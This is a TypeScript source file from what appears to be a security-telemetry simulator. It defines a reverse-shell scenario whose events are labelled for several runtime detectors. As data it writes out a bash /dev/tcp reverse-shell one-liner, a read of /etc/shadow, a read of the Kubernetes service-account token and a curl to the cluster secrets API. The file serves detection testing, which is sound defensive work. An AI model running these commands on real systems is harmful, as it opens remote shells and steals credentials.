import { REVERSE_SHELL_ENDPOINTS } from "../domains";
import { D } from "../detections";
import type { Pod } from "../model";
import { isNode, type Scenario } from "./types";

// Remote code execution in a web server: the nginx / php-fpm worker runs `sh -c`, which starts
// `bash -i` wired to a TCP socket on an external host, and the attacker looks around.

export const reverseShell: Scenario = {
  name: "reverse-shell",
  weight: 3,
  eligible: isNode,
  pods: (p: Pod) => p.spec.webserver,
  run(s) {
    const pod = s.pod as Pod;
    const ps = s.world.pod(s.agent, pod);
    const worker = ps.workerChain ?? ps.initChain;
    const { ip, port } = s.rng.pick(REVERSE_SHELL_ENDPOINTS);
    const payload = `bash -i >& /dev/tcp/${ip}/${port} 0>&1`;

    if (s.format === "kubearmor" && s.rng.chance(0.5)) {
      s.blockedExec(worker, "/bin/sh", ["sh", "-c", payload], { detection: D.webShell, enforcement: "block" });
      return;
    }
    const sh = s.exec(worker, "/bin/sh", ["sh", "-c", payload], {}, { detection: D.webShell, enforcement: s.format === "kubearmor" ? "audit" : undefined });
    // Datadog sees no socket here, so the shell's own exec carries the reverse-shell finding.
    const bash = s.exec(sh, "/bin/bash", ["bash", "-i"], {}, s.format === "datadog" ? { detection: D.reverseShell } : {});
    if (s.format === "tetragon") {
      s.connectIp(bash, ip, port, { detection: D.reverseShell, enforcement: "kill" });
      bash[0].exit = s.t;
      return;
    }
    // Garnet's network policy denies unknown egress on some nodes: the shell never connects.
    const drop = s.format === "garnet" && s.rng.chance(0.4);
    s.connectIp(bash, ip, port, { detection: D.reverseShell, enforcement: s.format === "kubearmor" ? "audit" : drop ? "drop" : undefined });
    if (drop) return;
    s.tick(3_000, 20_000);
    s.exec(bash, "/usr/bin/id", ["id"]);
    s.exec(bash, "/bin/uname", ["uname", "-a"]);
    const cat = s.exec(bash, "/bin/cat", ["cat", "/etc/shadow"]);
    s.file(cat, "/etc/shadow", false, { detection: D.credRead, enforcement: s.format === "kubearmor" ? "block" : undefined });
    if (s.rng.chance(0.5)) {
      const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
      s.file(s.exec(bash, "/bin/cat", ["cat", token]), token, false, { detection: D.credRead });
      s.egress(s.exec(bash, "/usr/bin/curl", ["curl", "-sk", "https://kubernetes.default.svc.cluster.local/api/v1/namespaces/default/secrets"]), "kubernetes.default.svc.cluster.local", {
        detection: D.k8sApi,
      });
    }
  },
};
